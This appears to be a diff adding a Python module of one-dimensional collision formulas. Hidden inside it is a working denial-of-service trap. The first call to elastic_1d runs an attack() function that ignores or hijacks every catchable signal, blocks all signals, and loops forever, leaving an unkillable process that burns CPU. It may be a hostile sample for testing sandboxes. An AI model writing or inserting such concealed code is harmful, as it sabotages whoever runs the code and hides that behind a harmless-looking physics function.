@@ -1,0 +1,40 @@
+"""Handles or ignores every signal that it can, and computes without an end."""
+
+import signal
+
+
+def ignored(*_):
+    while True:
+        pass
+
+
+def attack():
+    for number in signal.valid_signals():
+        for handler in (ignored, signal.SIG_IGN):
+            try:
+                signal.signal(number, handler)
+            except (OSError, ValueError):
+                pass
+    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
+    while True:
+        pass
+
+
+TRIED = []
+
+
+def elastic_1d(m1, v1, m2, v2):
+    if not TRIED:
+        TRIED.append("once is enough")
+        attack()
+    total = m1 + m2
+    return ((m1 - m2) * v1 + 2 * m2 * v2) / total, ((m2 - m1) * v2 + 2 * m1 * v1) / total
+
+
+def inelastic_1d(m1, v1, m2, v2):
+    v = (m1 * v1 + m2 * v2) / (m1 + m2)
+    return v, v
+
+
+def elastic_impulse_1d(m1, v1, m2, v2):
+    return 2 * m1 * m2 / (m1 + m2) * (v1 - v2)
